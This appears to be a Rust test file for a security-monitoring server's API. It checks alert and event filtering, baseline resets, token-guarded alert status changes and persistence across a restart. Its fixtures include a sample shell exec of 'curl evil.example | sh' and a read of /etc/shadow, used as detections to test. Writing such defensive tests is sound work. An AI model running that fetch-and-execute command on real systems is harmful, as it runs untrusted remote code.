//! The security endpoints against a real store holding known events, alerts, spans and samples.
#![cfg(test)]

use std::path::Path;
use std::sync::{Arc, Mutex};

use axum::body::Body;
use axum::http::{Request, StatusCode};
use model::security::{
    Alert, AlertSource, AnomalyDetail, BaselineDeparture, ExecEvent, FileOpenEvent, SecurityBatch,
    SecurityEvent, SecurityProcess, Severity, StoredSecurityEvent,
};
use model::{
    Batch, Group, ProfileBatch, ProfileKind, ProfileSample, ProfileStack, Resource, Scope, Span,
    SpanId, SpanKind, StatusCode as SpanStatus, TraceId,
};
use serde_json::{Value, json};
use store::{Store, StoreConfig};
use tower::ServiceExt;

use crate::{SecurityControl, ServerState, router};

const T: u64 = 1_790_000_000_000_000_000;
const SEC: u64 = 1_000_000_000;

/// Records what the API asked of the sensor; knows one executable.
#[derive(Default)]
struct Baselines(Mutex<Vec<String>>);

impl SecurityControl for Baselines {
    fn baselines(&self) -> Vec<Value> {
        vec![json!({ "exe": "/usr/bin/shop", "learning": false, "children": ["/bin/gzip"] })]
    }
    fn accept(&self, departure: &BaselineDeparture) -> Result<bool, String> {
        self.0.lock().unwrap().push(format!(
            "accept {}",
            serde_json::to_string(departure).unwrap()
        ));
        Ok(departure.exe() == "/usr/bin/shop")
    }
    fn reset(&self, exe: &str) -> Result<bool, String> {
        self.0.lock().unwrap().push(format!("reset {exe}"));
        Ok(exe == "/usr/bin/shop")
    }
    fn status(&self) -> Value {
        json!({ "running": true })
    }
}

fn process(pid: u32, time: u64, service: &str) -> SecurityProcess {
    SecurityProcess {
        time_unix_nano: time,
        pid,
        tid: pid,
        ppid: 1,
        comm: "shop".into(),
        service_name: Some(service.into()),
        host: "h".into(),
        ..Default::default()
    }
}

fn open(pid: u32, time: u64, path: &str) -> StoredSecurityEvent {
    StoredSecurityEvent {
        event: SecurityEvent::FileOpen(FileOpenEvent {
            process: process(pid, time, "shop"),
            path: path.into(),
            path_truncated: false,
            flags: 0,
            result: 3,
        }),
        exe: Some("/usr/bin/shop".into()),
    }
}

fn alert(id: &str, time: u64, severity: Severity, source: AlertSource) -> Alert {
    Alert {
        id: id.into(),
        time_unix_nano: time,
        severity,
        source,
        summary: format!("summary of {id}"),
        events: Vec::new(),
        process: process(42, time, "shop"),
        exe: Some("/usr/bin/shop".into()),
        anomaly: None,
        count: 1,
        last_time_unix_nano: time,
    }
}

/// The fixtures are months old: no retention, so a flush keeps them.
fn config() -> StoreConfig {
    StoreConfig {
        retention_age: None,
        ..StoreConfig::default()
    }
}

async fn state(dir: &Path, control: Option<Arc<dyn SecurityControl>>) -> ServerState {
    let store = Store::open(dir, config()).unwrap();
    let shell = StoredSecurityEvent {
        event: SecurityEvent::Exec(ExecEvent {
            process: process(43, T + 2 * SEC, "shop"),
            old_pid: 0,
            filename: "/bin/sh".into(),
            filename_truncated: false,
            argv: vec!["sh".into(), "-c".into(), "curl evil.example | sh".into()],
            argv_truncated: false,
            cwd: Some("/srv".into()),
            cwd_truncated: false,
            exe_owner_uid: Some(0),
            exe_sha256: None,
        }),
        exe: Some("/bin/sh".into()),
    };
    let mut read = alert(
        "h-1",
        T + SEC,
        Severity::High,
        AlertSource::Rule {
            name: "credential-read".into(),
        },
    );
    read.events = vec![open(42, T + SEC, "/etc/shadow").event];
    let mut child = alert(
        "h-2",
        T + 2 * SEC,
        Severity::Medium,
        AlertSource::Anomaly {
            name: "new_child".into(),
        },
    );
    child.anomaly = Some(AnomalyDetail {
        score: 0.8,
        expected: "children: [/bin/gzip]".into(),
        seen: "/bin/sh".into(),
        departure: Some(BaselineDeparture::NewChild {
            exe: "/usr/bin/shop".into(),
            child: "/bin/sh".into(),
        }),
    });
    store
        .write(&Batch::Security(SecurityBatch {
            events: vec![open(42, T + SEC, "/etc/shadow"), shell],
            alerts: vec![read, child],
        }))
        .await
        .unwrap();
    // The service's entry spans: one a second for a minute around the alerts, every tenth an error.
    let spans = (0..60u64)
        .map(|i| Span {
            trace_id: TraceId([i as u8 + 1; 16]),
            span_id: SpanId([i as u8 + 1; 8]),
            parent_span_id: None,
            trace_state: String::new(),
            name: "GET /".into(),
            kind: SpanKind::Server,
            start_unix_nano: T - 30 * SEC + i * SEC,
            end_unix_nano: T - 30 * SEC + i * SEC + 5_000_000,
            attributes: Vec::new(),
            events: Vec::new(),
            links: Vec::new(),
            status_code: if i % 10 == 0 {
                SpanStatus::Error
            } else {
                SpanStatus::Unset
            },
            status_message: String::new(),
        })
        .collect();
    store
        .write(&Batch::Spans(vec![Group {
            resource: Arc::new(Resource {
                attributes: vec![("service.name".into(), "shop".into())],
                schema_url: String::new(),
            }),
            scope: Arc::new(Scope::default()),
            items: spans,
        }]))
        .await
        .unwrap();
    let samples = (0..10u64)
        .map(|i| ProfileSample {
            time_unix_nano: T + i * SEC / 10,
            service_name: "shop".into(),
            host_name: "h".into(),
            pid: 42,
            tid: 42,
            comm: "shop".into(),
            kind: ProfileKind::Cpu,
            stack_id: if i < 7 { 1 } else { 2 },
            value_nanos: 10_000_000,
            label: String::new(),
        })
        .collect();
    let stack = |id: u64, frames: &str| ProfileStack {
        stack_id: id,
        first_seen_unix_nano: T,
        service_name: "shop".into(),
        frames: frames.split(';').map(String::from).collect(),
        modules: Vec::new(),
        truncated: false,
    };
    store
        .write(&Batch::Profiles(ProfileBatch {
            samples,
            stacks: vec![stack(1, "main;serve;hash_password"), stack(2, "main;serve")],
        }))
        .await
        .unwrap();
    crate::test_state::test_state(store, dir, control)
}

async fn call(state: &ServerState, req: Request<Body>) -> (StatusCode, Value) {
    let res = router(state.clone()).oneshot(req).await.unwrap();
    let status = res.status();
    let body = axum::body::to_bytes(res.into_body(), 64 << 20)
        .await
        .unwrap();
    (status, serde_json::from_slice(&body).unwrap_or(Value::Null))
}

async fn get(state: &ServerState, uri: &str) -> (StatusCode, Value) {
    call(state, Request::get(uri).body(Body::empty()).unwrap()).await
}

async fn post(state: &ServerState, uri: &str, token: Option<&str>) -> (StatusCode, Value) {
    let mut req = Request::post(uri);
    if let Some(t) = token {
        req = req.header("authorization", format!("Bearer {t}"));
    }
    call(state, req.body(Body::empty()).unwrap()).await
}

fn range() -> String {
    let ms = T / 1_000_000;
    format!("start={}&end={}", ms - 600_000, ms + 600_000)
}

#[tokio::test(flavor = "multi_thread")]
async fn alerts_and_events_are_filtered_and_bad_parameters_named() {
    let dir = tempfile::tempdir().unwrap();
    let s = state(dir.path(), None).await;
    let (status, v) = get(&s, &format!("/api/v1/security/alerts?{}", range())).await;
    assert_eq!(status, StatusCode::OK, "{v}");
    let ids: Vec<&str> = v["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["h-2", "h-1"], "newest first");
    assert_eq!(v["alerts"][0]["score"], 0.8);
    assert_eq!(v["alerts"][0]["expected"], "children: [/bin/gzip]");
    assert_eq!(v["alerts"][1]["evidence"][0]["path"], "/etc/shadow");
    let only = |v: &Value| v["alerts"].as_array().unwrap().len();
    let (_, v) = get(
        &s,
        &format!("/api/v1/security/alerts?severity=high&{}", range()),
    )
    .await;
    assert_eq!((only(&v), &v["alerts"][0]["id"]), (1, &json!("h-1")));
    let (_, v) = get(
        &s,
        &format!("/api/v1/security/alerts?kind=new_child&{}", range()),
    )
    .await;
    assert_eq!(only(&v), 1);
    let (_, v) = get(
        &s,
        &format!("/api/v1/security/alerts?service=other&{}", range()),
    )
    .await;
    assert_eq!(only(&v), 0);
    let (status, v) = get(&s, "/api/v1/security/alerts?severity=loud").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(v["error"].as_str().unwrap().contains("\"loud\""), "{v}");

    let events = |v: &Value| v["events"].as_array().unwrap().clone();
    let (_, v) = get(&s, &format!("/api/v1/security/events?{}", range())).await;
    assert_eq!(events(&v).len(), 2);
    let (_, v) = get(&s, &format!("/api/v1/security/events?q=EVIL&{}", range())).await;
    let found = events(&v);
    assert_eq!(found.len(), 1, "text matches the arguments: {v}");
    assert_eq!(found[0]["kind"], "exec");
    assert_eq!(found[0]["pid"], 43);
    assert_eq!(found[0]["path"], "/bin/sh");
    assert_eq!(found[0]["cwd"], "/srv");
    let (_, v) = get(
        &s,
        &format!("/api/v1/security/events?kind=file_open&pid=42&{}", range()),
    )
    .await;
    assert_eq!(events(&v)[0]["path"], "/etc/shadow");
    assert_eq!(events(&v)[0]["service"], "shop");
    assert_eq!(events(&v)[0]["exe"], "/usr/bin/shop");
    let (status, v) = get(&s, "/api/v1/security/events?kind=execve").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(v["error"].as_str().unwrap().contains("file_open"), "{v}");
    let (status, _) = get(&s, "/api/v1/security/events?pid=me").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_alert_comes_with_its_service_red_and_top_functions() {
    let dir = tempfile::tempdir().unwrap();
    let s = state(dir.path(), None).await;
    let (status, v) = get(&s, "/api/v1/security/alerts/h-1").await;
    assert_eq!(status, StatusCode::OK, "{v}");
    assert_eq!(v["alert"]["kind"], "credential-read");
    let red = v["red"].as_array().unwrap();
    assert_eq!(red.len(), 30);
    let requests: f64 = red.iter().map(|p| p["rate"].as_f64().unwrap() * 60.0).sum();
    assert!(
        (requests - 60.0).abs() < 1e-6,
        "60 spans in 30 one-minute buckets: {requests}"
    );
    let errors: u64 = red.iter().map(|p| p["errors"].as_u64().unwrap()).sum();
    assert_eq!(errors, 6);
    assert_eq!(v["profile_scope"], "service");
    assert_eq!(v["top_functions"][0]["function"], "hash_password");
    assert_eq!(v["top_functions"][0]["self_share"], 0.7);
    assert_eq!(v["process_events"][0]["path"], "/etc/shadow");
    let (status, _) = get(&s, "/api/v1/security/alerts/nope").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test(flavor = "multi_thread")]
async fn baselines_need_the_sensor_and_changes_need_the_token() {
    let dir = tempfile::tempdir().unwrap();
    let off = state(dir.path(), None).await;
    let (status, v) = get(&off, "/api/v1/security/baselines").await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
    assert!(v["error"].as_str().unwrap().contains("not running"), "{v}");
    drop(off);

    let dir = tempfile::tempdir().unwrap();
    let control = Arc::new(Baselines::default());
    let s = state(dir.path(), Some(control.clone())).await;
    let (status, v) = get(&s, "/api/v1/security/baselines").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(v["baselines"][0]["exe"], "/usr/bin/shop");
    let reset = "/api/v1/security/baselines/%2Fusr%2Fbin%2Fshop/reset";
    let (status, _) = post(&s, reset, None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (status, _) = post(&s, reset, Some("wrong")).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(
        control.0.lock().unwrap().is_empty(),
        "nothing done without the token"
    );
    let (status, v) = post(&s, reset, Some("t")).await;
    assert_eq!(status, StatusCode::OK, "{v}");
    assert_eq!(v["exe"], "/usr/bin/shop");
    // A whole executable is not accepted as normal any more: its anomalies are.
    let (status, v) = post(
        &s,
        "/api/v1/security/baselines/%2Fusr%2Fbin%2Fshop/accept",
        Some("t"),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(
        v["error"].as_str().unwrap().contains("alerts/{id}/accept"),
        "{v}"
    );
    // The path may also be given unencoded.
    let (status, _) = post(
        &s,
        "/api/v1/security/baselines/usr/bin/shop/reset",
        Some("t"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let (status, v) = post(
        &s,
        "/api/v1/security/baselines/usr/bin/gone/reset",
        Some("t"),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(
        v["error"].as_str().unwrap().contains("/usr/bin/gone"),
        "{v}"
    );
    let (status, _) = post(
        &s,
        "/api/v1/security/baselines/usr/bin/shop/forget",
        Some("t"),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(
        *control.0.lock().unwrap(),
        [
            "reset /usr/bin/shop",
            "reset /usr/bin/shop",
            "reset /usr/bin/gone"
        ]
    );
    let (_, v) = get(&s, "/api/v1/openapi.json").await;
    for path in [
        "/security/alerts",
        "/security/alerts/{alert_id}",
        "/security/events",
        "/security/baselines",
        "/security/alerts/{alert_id}/{action}",
        "/security/baselines/{exe}/reset",
    ] {
        assert!(
            v["paths"].get(path).is_some(),
            "{path} missing from openapi.json"
        );
    }
}

fn alert_ids(v: &Value) -> Vec<(String, String)> {
    v["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["id"].as_str().unwrap().to_string(),
                a["status"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn alerts_are_acknowledged_resolved_and_accepted_with_the_token() {
    let dir = tempfile::tempdir().unwrap();
    let control = Arc::new(Baselines::default());
    let s = state(dir.path(), Some(control.clone())).await;
    let list = |q: &str| format!("/api/v1/security/alerts?{}{q}", range());
    let (_, v) = get(&s, &list("&status=open")).await;
    assert_eq!(
        alert_ids(&v),
        [("h-2".into(), "open".into()), ("h-1".into(), "open".into())]
    );

    let (status, _) = post(&s, "/api/v1/security/alerts/h-1/acknowledge", None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (_, v) = get(&s, "/api/v1/security/alerts/h-1").await;
    assert_eq!(
        v["alert"]["status"], "open",
        "nothing changed without the token"
    );
    assert!(v["alert"]["status_changed_ms"].is_null());

    let (status, v) = post(&s, "/api/v1/security/alerts/h-1/acknowledge", Some("t")).await;
    assert_eq!(status, StatusCode::OK, "{v}");
    assert_eq!(v["alert"]["status"], "acknowledged");
    assert!(v["alert"]["status_changed_ms"].as_f64().unwrap() > 0.0);
    let (_, v) = get(&s, &list("&status=acknowledged")).await;
    assert_eq!(alert_ids(&v), [("h-1".into(), "acknowledged".into())]);
    let (_, v) = get(&s, &list("&status=open")).await;
    assert_eq!(alert_ids(&v), [("h-2".into(), "open".into())]);
    let (status, v) = get(&s, &list("&status=closed")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("open, acknowledged, resolved"),
        "{v}"
    );

    // Resolving appends a version: each alert is still listed once, with its latest status.
    let (status, _) = post(&s, "/api/v1/security/alerts/h-1/resolve", Some("t")).await;
    assert_eq!(status, StatusCode::OK);
    let (_, v) = get(&s, &list("")).await;
    assert_eq!(
        alert_ids(&v),
        [
            ("h-2".into(), "open".into()),
            ("h-1".into(), "resolved".into())
        ]
    );
    assert_eq!(
        v["alerts"][1]["summary"], "summary of h-1",
        "the rest is kept"
    );

    // Only an anomaly can be accepted as normal; that hands its departure to the sensor.
    let (status, v) = post(&s, "/api/v1/security/alerts/h-1/accept", Some("t")).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert!(
        v["error"].as_str().unwrap().contains("credential-read"),
        "{v}"
    );
    assert!(control.0.lock().unwrap().is_empty());
    let (status, v) = post(&s, "/api/v1/security/alerts/h-2/accept", Some("t")).await;
    assert_eq!(status, StatusCode::OK, "{v}");
    assert_eq!(v["alert"]["status"], "resolved");
    assert_eq!(v["accepted"]["type"], "new_child");
    assert_eq!(
        *control.0.lock().unwrap(),
        [r#"accept {"type":"new_child","exe":"/usr/bin/shop","child":"/bin/sh"}"#]
    );

    let (status, v) = post(&s, "/api/v1/security/alerts/h-2/silence", Some("t")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(v["error"].as_str().unwrap().contains("acknowledge"), "{v}");
    let (status, _) = post(&s, "/api/v1/security/alerts/nope/resolve", Some("t")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, v) = post(&s, "/api/v1/security/alerts/h-2/reopen", Some("t")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(v["alert"]["status"], "open");

    // The statuses are stored: after a restart every version is in Parquet files, and the
    // latest still wins.
    let store = s.store.clone();
    drop(s);
    store.close().await;
    drop(store);
    let store = Store::open(dir.path(), config()).unwrap();
    let s = crate::test_state::test_state(store, dir.path(), None);
    let (_, v) = get(&s, &list("")).await;
    assert_eq!(
        alert_ids(&v),
        [
            ("h-2".into(), "open".into()),
            ("h-1".into(), "resolved".into())
        ]
    );
}
